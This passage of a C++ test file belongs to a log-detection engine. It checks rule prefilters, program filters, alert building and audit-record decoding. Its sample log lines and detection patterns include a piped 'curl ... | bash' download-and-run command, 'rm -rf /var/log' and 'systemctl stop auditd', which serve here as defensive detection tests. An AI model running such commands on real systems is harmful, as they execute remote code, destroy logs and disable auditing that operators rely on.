  auto set = MustCompile({r, MakeRule("other", {"segfault"})});
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  set->Match(Msg("nginx", R"(1.2.3.4 - - [08/Jun/2020:06:49:01 +0000] "GET / HTTP/1.0" 502 0)"),
             **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("pre"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"status", "502"}));
  // The prefilter finds this line, `match` does not (no timestamp): no hit,
  // and the other rule still hits.
  set->Match(Msg("nginx", R"(upstream said "GET / HTTP/1.0" 502 and segfault)"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("other"));
  // `match` alone is not scanned for.
  Rule no_pre = r;
  no_pre.prefilter = {"zzz"};
  auto set2 = MustCompile({no_pre});
  auto scratch2 = set2->NewScratch();
  ASSERT_TRUE(scratch2.ok());
  set2->Match(Msg("nginx", R"(1.2.3.4 - - [08/Jun/2020:06:49:01 +0000] "GET / HTTP/1.0" 502 0)"),
              **scratch2, &hits);
  EXPECT_TRUE(hits.empty());
}

TEST(RuleSetTest, APrefilterThatIsAMatchExpressionHitsWithoutConfirmation) {
  // Prefilters: a loose one, and one written as the second match expression
  // itself (its Hyperscan hit is the match: no RE2 confirmation).
  Rule r = MakeRule("pre", {R"(^Accepted \S+ for \S+ from )", R"(^Pubkey auth succeeded for ')"},
                    {R"(for (?P<user>\S+))"});
  r.prefilter = {R"(Accepted \S+ for )", R"(^Pubkey auth succeeded for ')"};
  r.prefilter_lines = {20, 21};
  auto set = MustCompile({MakeRule("a", {"auth"}), r, MakeRule("z", {"succeeded"})});
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  set->Match(Msg("dropbear", "Pubkey auth succeeded for 'root' with ssh-ed25519 key"), **scratch,
             &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("a", "pre", "z"));
  // Both prefilters find this line; the loose one's hit alone would need
  // RE2, the exact one's does not: one hit, in rule order.
  set->Match(Msg("sshd", "Pubkey auth succeeded for 'x' after Accepted key for y from"), **scratch,
             &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("a", "pre", "z"));
  // The loose prefilter alone, `match` not: no hit.
  set->Match(Msg("sshd", "Received: Accepted key for root later"), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
  set->Match(Msg("sshd", "Accepted publickey for root from 192.0.2.1"), **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("pre"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}));
}

TEST(RuleSetTest, PrefilterConfirmationStartingAtLiteralsEqualsRe2Search) {
  // `match` expressions that begin with a literal are confirmed by RE2
  // anchored at each occurrence of it: a hit exactly when RE2's unanchored
  // search finds the expression somewhere in the line.
  struct Case {
    std::string match;
    std::string prefilter;
    bool case_sensitive;
  };
  std::string many = "LINE";
  for (int i = 0; i < 20; ++i) many += " Failed - x";
  const std::vector<Case> cases = {
      // the first occurrences of the literal fail, a later one matches
      {"Failed [a-z/-]+ for ", "Failed [a-z/-]", false},
      // a leading \b, read with the bytes before the literal
      {R"(\bIN=\S* OUT=)", "OUT=", false},
      // leading literal alternatives
      {"(?:received|failures) for user ", " for user ", false},
      // case-sensitive: only the literal's own case starts a match
      {"Failed [a-z/-]+ for ", "Failed [a-z/-]", true},
      // no start literal (an anchor): searched as before
      {"^(?-i:vchkpw-)[\\w-]+: (?-i:password fail )", "^(?-i:vchkpw-)", false},
  };
  const std::vector<std::string> lines = {
      "LINE failed - POSSIBLE BREAK-IN Failed password for root",
      "LINE FAILED PASSWORD FOR root",
      "LINE failed - POSSIBLE BREAK-IN ATTEMPT!",
      many,
      many + " Failed none for x",
      "LINE XIN=a OUT= IN=b OUT=",
      "LINE XIN=a OUT=",
      "LINE auth failures for user root",
      "LINE received for users x",
      "vchkpw-pop3: password fail x@y:1.2.3.4",
      "vchkpw-pop3: login success x@y:1.2.3.4",
      "LINE vchkpw-pop3: password fail x",
  };
  for (const Case& c : cases) {
    Rule r = MakeRule("pre", {c.match});
    r.prefilter = {c.prefilter};
    r.prefilter_lines = {20};
    r.case_sensitive = c.case_sensitive;
    auto set = MustCompile({r});
    auto scratch = set->NewScratch();
    ASSERT_TRUE(scratch.ok());
    RE2::Options o;
    o.set_case_sensitive(c.case_sensitive);
    o.set_encoding(RE2::Options::EncodingLatin1);
    const RE2 re(c.match, o);
    ASSERT_TRUE(re.ok()) << c.match;
    std::vector<RuleHit> hits;
    for (const std::string& line : lines) {
      set->Match(Msg("x", line), **scratch, &hits);
      EXPECT_EQ(!hits.empty(), RE2::PartialMatch(line, re)) << c.match << " on " << line;
    }
  }
}

TEST(RuleSetTest, ProgramFilterEqualsRe2FullMatchOfTheProgram) {
  // Programs that denote a few names are compared without RE2; the result
  // must be RE2's full, caseless match of the name or of its last path
  // component, whichever syntax the program uses.
  const std::vector<std::string> programs = {
      "sshd|sshd-session",
      "(?:sshd|sshd-session|sshd-auth)?",
      "named|bind9?",
      "login|login\\(pam_unix\\)",
      "syslogd|syslog\\.(?:info|notice)",
      "(?:in\\.)?(?:e?klogind|rshd)",
      "(?:(?:in\\.|wu[.-]|tn)?ftpd|ftp|vsftpd)?",
      "rsyslogd(?:-[0-9]+)?",
      "(?:/\\S*/)?(?:cron|crond)",
      "a??b",
      "x{2}",
  };
  const std::vector<std::string> names = {"",
                                          "sshd",
                                          "SSHD",
                                          "sshd-session",
                                          "sshd-auth",
                                          "sshd-",
                                          "sshdx",
                                          "named",
                                          "bind",
                                          "bind9",
                                          "bind99",
                                          "login",
                                          "login(pam_unix)",
                                          "syslogd",
                                          "syslog.info",
                                          "syslog.notice",
                                          "syslogxinfo",
                                          "in.klogind",
                                          "klogind",
                                          "eklogind",
                                          "in.rshd",
                                          "in.",
                                          "ftpd",
                                          "in.ftpd",
                                          "wu.ftpd",
                                          "wu-ftpd",
                                          "tnftpd",
                                          "ftp",
                                          "vsftpd",
                                          "rsyslogd",
                                          "rsyslogd-8",
                                          "/usr/sbin/cron",
                                          "cron",
                                          "crond",
                                          "ab",
                                          "b",
                                          "xx",
                                          "/usr/sbin/sshd",
                                          "/usr/sbin/bind9",
                                          "/x/",
                                          "/"};
  for (const std::string& program : programs) {
    auto set = MustCompile({MakeRule("p", {"hello"}, {}, program)});
    auto scratch = set->NewScratch();
    ASSERT_TRUE(scratch.ok());
    RE2::Options o;
    o.set_case_sensitive(false);
    o.set_encoding(RE2::Options::EncodingLatin1);
    const RE2 re("(?:" + program + ")", o);
    ASSERT_TRUE(re.ok()) << program;
    std::vector<RuleHit> hits;
    for (const std::string& name : names) {
      const size_t slash = name.rfind('/');
      const bool want =
          RE2::FullMatch(name, re) || (slash != std::string::npos && slash + 1 < name.size() &&
                                       RE2::FullMatch(name.substr(slash + 1), re));
      set->Match(Msg(name, "hello"), **scratch, &hits);
      EXPECT_EQ(!hits.empty(), want) << program << " on \"" << name << "\"";
    }
  }
}

TEST(RuleSetTest, PrefilterErrorsNameTheirLine) {
  Rule bad_pre = MakeRule("p", {"x"});
  bad_pre.prefilter = {"fine", "(unbalanced"};
  bad_pre.prefilter_lines = {20, 21};
  auto set = RuleSet::Compile({bad_pre});
  ASSERT_FALSE(set.ok());
  EXPECT_THAT(set.status().message(),
              HasSubstr("test.yaml:21: rule p: prefilter: Hyperscan cannot compile "
                        "\"(unbalanced\": "));
  // With a prefilter, `match` must compile in RE2 too (it confirms the hits).
  Rule bad_match = MakeRule("m", {"ok", "(?<=x)y"});
  bad_match.prefilter = {"y"};
  bad_match.prefilter_lines = {20};
  auto set2 = RuleSet::Compile({bad_match});
  ASSERT_FALSE(set2.ok());
  EXPECT_THAT(set2.status().message(), HasSubstr("test.yaml:11: rule m: match: RE2 "));
}

TEST(RuleSetTest, EmptySetNeverHits) {
  auto set = MustCompile({});
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits{RuleHit{}};
  set->Match(Msg("x", "anything"), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
  EXPECT_EQ(set->FindRule("x"), nullptr);
}

TEST(RuleSetTest, FindRule) {
  auto set = MustCompile({MakeRule("a", {"x"}), MakeRule("b", {"y"})});
  ASSERT_NE(set->FindRule("b"), nullptr);
  EXPECT_EQ(set->FindRule("b")->id, "b");
  EXPECT_EQ(set->FindRule("c"), nullptr);
}

TEST(RuleSetTest, ThreadsWithTheirOwnScratchShareOneSet) {
  auto set = MustCompile({MakeRule("a", {"Failed password for "}, {R"(for (?P<user>\S+))"}),
                          MakeRule("b", {"Invalid user "}, {R"(user (?P<user>\S+))"})});
  constexpr int kThreads = 4;
  constexpr int kIterations = 2000;
  std::vector<int> correct(kThreads, 0);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      auto scratch = set->NewScratch();
      std::vector<RuleHit> hits;
      const std::string user = "u" + std::to_string(t);
      const std::string a = "Failed password for " + user + " from x";
      const std::string b = "Invalid user " + user + " from x";
      for (int i = 0; i < kIterations; ++i) {
        set->Match(Msg("sshd", i % 2 ? a : b), **scratch, &hits);
        if (hits.size() == 1 && hits[0].rule->id == (i % 2 ? "a" : "b") &&
            hits[0].fields == std::vector<Field>{{"user", user}}) {
          ++correct[t];
        }
      }
    });
  }
  for (std::thread& th : threads) th.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(correct[t], kIterations) << "thread " << t;
}

TEST(MakeAlertTest, FillsEveryFieldFromMessageAndHit) {
  Rule rule = MakeRule("sshd.x", {"y"});
  Message m = Msg("sshd", "Failed password for root");
  m.raw = "<38>Mar  7 18:53:20 bastion sshd[42]: Failed password for root";
  m.hostname = "bastion";
  m.procid = "42";
  m.sender = "192.0.2.77";
  m.timestamp = TimePoint(std::chrono::seconds(1000));
  m.received = TimePoint(std::chrono::seconds(1002));
  RuleHit hit{&rule, {{"user", "root"}}};
  Alert a = MakeAlert(m, hit);
  EXPECT_EQ(a.time, m.timestamp);
  EXPECT_EQ(a.received, m.received);
  EXPECT_EQ(a.host, "bastion");
  EXPECT_EQ(a.sender, "192.0.2.77");
  EXPECT_EQ(a.rule, "sshd.x");
  EXPECT_EQ(a.sign, "ssh.auth_failure");
  EXPECT_EQ(a.severity, Severity::kHigh);
  EXPECT_EQ(a.title, "title of sshd.x");
  EXPECT_EQ(a.program, "sshd");
  EXPECT_EQ(a.pid, "42");
  EXPECT_THAT(a.fields, ElementsAre(Field{"user", "root"}));
  EXPECT_EQ(a.message, m.raw);

  m.hostname = "";  // no hostname in the header: the sender is the host
  EXPECT_EQ(MakeAlert(m, hit).host, "192.0.2.77");

  m.repeats = 4;  // "message repeated 4 times: [...]": the alert says so
  EXPECT_THAT(MakeAlert(m, hit).fields, ElementsAre(Field{"user", "root"}, Field{"repeated", "4"}));
}

// An audit record's hex-encoded value (matchers/audit_hex.h): the rules
// match and extract from the decoded text, the alert keeps the raw line,
// and what only the hex spelling hit is not a hit.
TEST(RuleSetTest, AuditHexValuesAreReadDecoded) {
  auto set = MustCompile({
      MakeRule("stop", {R"(\bcmd="?systemctl stop auditd\b)"},
               {R"re(\bcmd="(?P<command>[^"]*)")re"}),
      MakeRule("hex", {"cmd=73797374656D63746C"}),
      MakeRule("uid", {R"(\buid=1001\b)"}, {R"(\buid=(?P<uid>\d+))"}),
  });
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  const std::string line =
      "type=USER_CMD msg=audit(1796644020.957:400161): pid=7712 uid=1001 auid=1001 "
      "msg='cwd=\"/tmp\" cmd=73797374656D63746C2073746F7020617564697464 "
      "exe=\"/usr/bin/sudo\" terminal=pts/2 res=success'";
  const Message m = Msg("audisp-syslog", line);
  std::vector<RuleHit> hits;
  set->Match(m, **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("stop", "uid"));
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"command", "systemctl stop auditd"}));
  EXPECT_EQ(MakeAlert(m, hits[0]).message, line);
  // The same scratch on a line without hex: the raw text again.
  set->Match(Msg("audisp-syslog", "type=USER_CMD uid=1001 cmd=\"systemctl stop auditd\""),
             **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("stop", "uid"));
  // A SYSCALL record's bare hex numbers are not decoded.
  set->Match(Msg("audisp-syslog", "type=SYSCALL msg=audit(1.2:3): a0=73797374656D63746C uid=1001"),
             **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("uid"));
  // The journal's audit records (identifier "audit") are decoded.
  set->Match(
      Msg("audit", "USER_CMD pid=7 uid=1001 msg='cmd=73797374656D63746C2073746F7020617564697464'"),
      **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("stop", "uid"));
  // Another program's key=HEX is its own: not an audit record.
  set->Match(Msg("myapp", "uid=1001 cmd=73797374656D63746C2073746F7020617564697464"), **scratch,
             &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("hex", "uid"));
}

// An EXECVE record's arguments are one field each (kernel/auditsc.c
// audit_log_execve_info): the rules read them joined, `cmdline="..."` at
// the end of the decoded text, quoted and hex arguments alike.
TEST(RuleSetTest, ExecveArgumentsAreReadAsOneCommandLine) {
  auto set = MustCompile({
      MakeRule("pipe", {R"(\bcmdline="[^\n]*\bcurl\s[^\n]*\|\s*(?:ba)?sh\b)"},
               {R"re(\bcmdline="(?P<cmdline>[^\n]*)"$)re"}),
      MakeRule("logs", {R"(\bcmdline="rm\s+-rf?\s+/var/log\b)"}),
  });
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  // bash -c 'curl -s http://x/s | bash': the pipe is in one hex argument.
  const std::string piped =
      "type=EXECVE msg=audit(1796641140.108:400084): argc=3 a0=\"bash\" a1=\"-c\" "
      "a2=6375726C202D7320687474703A2F2F782F73207C2062617368";
  set->Match(Msg("audisp-syslog", piped), **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("pipe"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"cmdline", "bash -c curl -s http://x/s | bash"}));
  EXPECT_EQ(MakeAlert(Msg("audisp-syslog", piped), hits[0]).message, piped);
  // rm -rf /var/log: three quoted arguments, no hex at all.
  set->Match(Msg("audisp-syslog",
                 "type=EXECVE msg=audit(1796641141.108:400085): argc=3 a0=\"rm\" a1=\"-rf\" "
                 "a2=\"/var/log\""),
             **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("logs"));
  // The kernel's printk form.
  set->Match(Msg("kernel",
                 "audit: type=1309 audit(1718157600.008:8011): argc=3 a0=\"rm\" a1=\"-rf\" "
                 "a2=\"/var/log/\""),
             **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("logs"));
  // Another program's text is its own.
  set->Match(Msg("myapp", "argc=3 a0=\"rm\" a1=\"-rf\" a2=\"/var/log\""), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre());
}

}  // namespace
}  // namespace konseki::matchers
